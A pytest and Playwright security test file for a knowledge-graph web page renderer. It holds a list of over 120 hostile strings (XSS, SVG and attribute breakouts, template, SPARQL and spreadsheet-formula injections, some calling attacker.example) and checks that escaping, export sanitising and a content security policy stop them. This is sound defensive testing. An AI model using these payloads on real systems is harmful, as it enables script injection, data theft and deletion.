"""Text that would be code elsewhere is text here: no name, sentence, title or id of a document runs in a browser."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from graph_sample import sample_quads
from pyoxigraph import Literal, NamedNode, Quad, Store
from visit import Open, Visit

from kg.identifiers import Identifiers
from kg.render import render_page

expect = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: make test installs it").expect

RUN = "globalThis.ran=1"
OUT = "https://attacker.example/"

HOSTILE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><svg onload={RUN}>",
    f"<!--<script>{RUN}</script>-->",
    "<!--<script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></noscript><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src={OUT}pixel.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={OUT}a.ogg onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data={OUT}x></object>",
    f"<embed src={OUT}x>",
    f"<link rel=stylesheet href={OUT}x.css>",
    f"<style>@import '{OUT}x.css';</style>",
    f"<base href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<form action={OUT}><button autofocus>go</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='{OUT}' ping='{OUT}ping'>click</a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><svg onload={RUN}>'>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
    f"\\';{RUN};//",
    f"-({RUN})-",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7 * 7 }}{{ config }}{% for x in () %}{% endfor %}{# gone #}",
    f"<%= {RUN} %>#{{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\u2028{RUN}\u2029",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    "\u202egnp.exe \u2066hidden\u2069",
    f"<b>bold</b>\n<i>{RUN}</i>\tline",
    f"<script src={OUT}a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=importmap>{{}}</script><script>{RUN}</script>",
    f"<script type=application/json id=page-content>{{}}</script><script>{RUN}</script>",
    f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    f"<script/x>{RUN}</script/x>",
    f"<<script>{RUN}//<</script>",
    f"<script\x0b>{RUN}</script>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<img srcset='{OUT}a.png 1x'>",
    f"<picture><source srcset={OUT}a.png><img src=x onerror={RUN}></picture>",
    f"<img src=x style='background:url({OUT}a.png)'>",
    f"<div style=\"background-image:url('{OUT}a.png')\">",
    f"<p style=animation-name:x onanimationstart={RUN}>",
    f"<style>@keyframes x{{}}</style><p style=animation:x onanimationend={RUN}>",
    f"<p contenteditable autofocus onfocusin={RUN}>",
    f"<p tabindex=0 autofocus onfocus={RUN}>",
    f"<button popovertarget=x>go</button><div popover id=x onbeforetoggle={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button>go</button></form></dialog>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>click</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math href=javascript:{RUN}>click</math>",
    f"<math><mi xlink:href=data:x,{RUN}>",
    f"<noembed><img src=x onerror={RUN}></noembed>",
    f"<plaintext><script>{RUN}</script>",
    f"<listing><img src=x onerror={RUN}></listing>",
    f"<table background=javascript:{RUN}><td>",
    f"<frameset onload={RUN}><frame src={OUT}x>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<link rel=prefetch href={OUT}x><link rel=dns-prefetch href={OUT}>",
    f"<link rel=preconnect href={OUT}>",
    f"<track src={OUT}a.vtt onerror={RUN}>",
    f"<portal src={OUT}></portal>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"vbscript:{RUN}",
    f"  javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f'https://x.example/" onmouseover="{RUN}',
    f"data:text/html;base64,PHNjcmlwdD4{RUN}",
    f"blob:{OUT}x",
    f"'+{RUN}+'",
    f'"}});{RUN};({{"',
    f"}}}};{RUN};{{{{",
    f"*/{RUN}/*",
    f"\n{RUN}\n//",
    f'\\"-{RUN}//',
    f'=HYPERLINK("{OUT}","click")',
    f"@SUM(1+1)*cmd|' /C {RUN}'!A0",
    f"+{RUN}",
    f"[click](javascript:{RUN})",
    f"![x]({OUT}a.png)",
    f"$(document.write('<img src=x onerror={RUN}>'))",
    "VALUES ?person_id { <https://attacker.example/> } } SERVICE <https://attacker.example/> { ?s ?p ?o",
    "> . ?s ?p ?o } ; DROP ALL #",
    '" . } INSERT DATA { <a:b> <a:c> <a:d> } #',
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "[object Object]",
    "null",
    "(?:a+)+$ .* [",
    "a & b < c > d \" e ' f",
    "🇮🇳 नई दिल्ली — 東京 𝒮𝓊𝓂𝓂𝒾𝓉",
    "x" * 3000,
)
"""Strings that break out of text, attribute, script, style, comment, template or JSON where escaping fails."""

PREFIXES = {
    "rdf": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    "skos": "http://www.w3.org/2004/02/skos/core#",
    "prov": "http://www.w3.org/ns/prov#",
    "oa": "http://www.w3.org/ns/oa#",
    "dcterms": "http://purl.org/dc/terms/",
    "schema": "https://schema.org/",
    "kg": Identifiers().kg(""),
}


def name(short: str) -> NamedNode:
    prefix, _, local = short.partition(":")
    return NamedNode(PREFIXES[prefix] + local)


def hostile_quads() -> Iterator[Quad]:
    """A document, a person, a meeting and a fact for each string, with that string wherever a string can stand."""
    identifiers = Identifiers()
    meta = NamedNode(identifiers.graph("meta"))
    for number, text in enumerate(HOSTILE):
        document = NamedNode(identifiers.document(f"hostile{number}"))
        graph = NamedNode(identifiers.graph(f"doc/hostile{number}"))
        person = NamedNode(f"{identifiers.base}id/person/{number}-onload='{number}'&lt;")
        meeting = NamedNode(identifiers.hashed("meeting", str(number)))
        assertion, quote = (NamedNode(identifiers.hashed(kind, str(number))) for kind in ("assertion", "quote"))
        said = {
            document: {
                "rdf:type": name("kg:Document"),
                **dict.fromkeys(("dcterms:title", "dcterms:publisher", "dcterms:issued", "dcterms:language"), text),
                **{"dcterms:identifier": text, "schema:url": text, "kg:text": f"{text} and {text}"},
            },
            person: {"rdf:type": name("kg:Person"), "skos:prefLabel": text, "skos:altLabel": f"alias {text}"},
            meeting: {
                "rdf:type": name("kg:Meeting"),
                "skos:prefLabel": f"M {text}",
                "skos:hiddenLabel": f"typo {text}",
            },
            assertion: {
                **{"rdf:type": name("kg:Assertion"), "rdf:subject": person, "rdf:object": meeting},
                **{"rdf:predicate": name("kg:attends"), "prov:wasDerivedFrom": document, "kg:quote": quote},
                **dict.fromkeys(("kg:rule", "kg:qualifier", "kg:status"), text),
            },
            quote: {
                **{"rdf:type": name("kg:Quote"), "oa:hasSource": document, "oa:exact": text},
                **{"oa:start": Literal(0), "oa:end": Literal(len(text))},
            },
        }
        for subject, values in said.items():
            for predicate, value in values.items():
                term = Literal(value) if isinstance(value, str) else value
                yield Quad(subject, name(predicate), term, meta if subject == document else graph)


@pytest.fixture(scope="module")
def hostile_page() -> str:
    store = Store()
    store.extend(quad for quad in sample_quads() if quad.graph_name.value.endswith("graph/ontology"))
    store.extend(hostile_quads())
    return render_page(store, title=HOSTILE[0])


@pytest.fixture
def visit(open_page: Open, hostile_page: str) -> Iterator[Visit]:
    opened = open_page(hostile_page)
    elements = opened.page.evaluate("() => document.querySelectorAll('script, style, iframe, base, meta, link').length")
    yield opened
    assert opened.page.evaluate("() => globalThis.ran") is None
    assert opened.page.evaluate("() => Object.prototype.ran") is None
    assert (
        opened.page.evaluate("() => document.querySelectorAll('script, style, iframe, base, meta, link').length")
        == elements
    )
    handlers = "[onload], [onerror], [onfocus], [onmouseover], [ontoggle], [ping]"
    foreign = "img, video, audio, object, embed, form, svg script"
    assert opened.page.locator(f"{handlers}, {foreign}").count() == 0


def test_there_are_enough_hostile_strings() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 120


def test_every_name_is_shown_as_it_is_written(visit: Visit) -> None:
    for text in HOSTILE:
        visit.page.evaluate(
            """(text) => {
                const thing = kgPage.content.things.find((one) => one.label === text);
                location.hash = "thing=" + encodeURIComponent(thing.iri.split("/id/")[1]);
            }""",
            text,
        )
        visit.page.wait_for_function("(text) => document.querySelector('#panel h2').textContent === text", arg=text)
        shown = visit.page.evaluate("() => document.querySelector('#panel').textContent")
        assert f"alias {text}" in shown
        assert visit.page.evaluate("() => document.querySelector('#panel blockquote').textContent") == text


def test_every_name_can_be_searched(visit: Visit) -> None:
    for text in HOSTILE:
        visit.page.evaluate(
            """(text) => {
                const field = document.getElementById("search");
                field.value = text;
                field.dispatchEvent(new Event("input"));
            }""",
            text,
        )
    visit.page.fill("#search", "<img src=x")
    assert visit.page.locator("#found [role=option]").count() > 0


def test_the_table_shows_every_string_as_text(visit: Visit) -> None:
    visit.view("facts")
    while visit.page.locator("#facts-more").is_visible():
        visit.page.click("#facts-more")
    shown = visit.page.locator("#facts-table").evaluate("(table) => table.textContent")
    assert [text for text in HOSTILE if text not in shown] == []


def test_every_document_is_shown_as_text(visit: Visit) -> None:
    visit.view("documents")
    entries = visit.page.locator("#document-list button")
    assert entries.count() == len(HOSTILE)
    for number in range(len(HOSTILE)):
        entries.nth(number).evaluate("(entry) => entry.click()")
        text = visit.page.evaluate("() => document.querySelector('#reader h2').textContent")
        assert text in HOSTILE
        assert visit.page.evaluate("() => document.querySelector('#reader .text').textContent") == f"{text} and {text}"
        assert visit.page.evaluate("() => document.querySelector('#reader mark').textContent") == text
    assert visit.page.locator("#reader a").count() == 0


def test_the_title_of_the_page_is_text(visit: Visit) -> None:
    assert visit.page.title() == HOSTILE[0]
    assert visit.page.inner_text("h1") == HOSTILE[0]


def test_the_legend_the_filters_and_the_picture_hold_text_only(visit: Visit) -> None:
    visit.page.locator("#document-filter input[type='search']").fill("<svg")
    visit.page.get_by_role("checkbox", name="Meetings").uncheck()
    for box in visit.page.evaluate("() => kgPage.labels.painted().slice(0, 20).map((one) => one.box)"):
        visit.page.locator("#picture").hover(
            position={"x": (box["left"] + box["right"]) / 2, "y": (box["top"] + box["bottom"]) / 2}
        )
    visit.page.click("#theme")


def test_the_tables_of_things_and_documents_hold_text_only(visit: Visit) -> None:
    visit.view("facts")
    for kind in ("things", "documents"):
        visit.page.get_by_label("Rows").select_option(kind)
        while visit.page.locator("#facts-more").is_visible():
            visit.page.click("#facts-more")
        shown = visit.page.locator("#facts-table").evaluate("(table) => table.textContent")
        assert [text for text in HOSTILE if text not in shown] == []


def test_open_points_hold_text_only(visit: Visit) -> None:
    visit.view("doubts")
    expect(visit.page.locator("#doubts-view h2")).to_be_visible()


def test_every_name_can_be_given_to_a_question_and_comes_back_in_its_answer(visit: Visit) -> None:
    """A name is bound as a term, so that it is asked for and nothing else."""
    address = "() => { location.hash = 'view=questions&ask=sparql'; }"
    visit.page.evaluate(address)
    visit.page.fill("#own", "SELECT ?name { ?person a kg:Person ; skos:prefLabel ?name }")
    visit.page.get_by_role("button", name="Run").click()
    expect(visit.page.locator("#asking [role=status]")).to_have_text(f"{len(HOSTILE)} rows", timeout=30_000)
    while visit.page.locator("#asking .more button").is_visible():
        visit.page.locator("#asking .more button").click()
    cells = visit.page.evaluate("() => [...document.querySelectorAll('#asking td')].map((cell) => cell.textContent)")
    assert set(HOSTILE) <= set(cells)
    visit.page.evaluate("() => { location.hash = 'view=questions&ask=who-is'; }")
    for text in HOSTILE[::12]:
        visit.page.locator("#given-person").fill(text)
        visit.page.keyboard.press("Enter")
        visit.page.wait_for_function(
            "() => /\\d row|called/.test(document.querySelector('#asking [role=status]').textContent)", timeout=20_000
        )


def test_what_is_saved_for_a_spreadsheet_holds_no_formula(visit: Visit) -> None:
    visit.view("facts")
    with visit.page.expect_download() as saved:
        visit.page.get_by_role("button", name="Save as CSV").click()
    rows = list(csv.reader(io.StringIO(Path(saved.value.path()).read_text(encoding="utf-8-sig"), newline="")))
    assert [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")] == []
    with visit.page.expect_download() as saved:
        visit.page.get_by_role("button", name="Save for Excel").click()
    with zipfile.ZipFile(saved.value.path()) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(archive.read(name))
                assert [one.tag for one in root.iter() if one.tag.endswith(("}f", "}hyperlink"))] == []


def test_a_script_that_gets_in_all_the_same_is_stopped_by_the_policy(open_page: Open, hostile_page: str) -> None:
    """The second line of defence, tried on a page that was tampered with."""
    broken = hostile_page.replace("</body>", f"<script>{RUN}</script><img src={OUT}x.png></body>")
    visit = open_page(broken)
    visit.page.wait_for_function("() => refused.length >= 2")
    assert visit.page.evaluate("() => globalThis.ran") is None
    refused = visit.page.evaluate("refused.splice(0)")
    assert {one.split()[0] for one in refused} == {"script-src-elem", "img-src"}
    # The browser says on its console what it refused, and names a request that it did not make.
    visit.troubles.clear()
    visit.requests.clear()
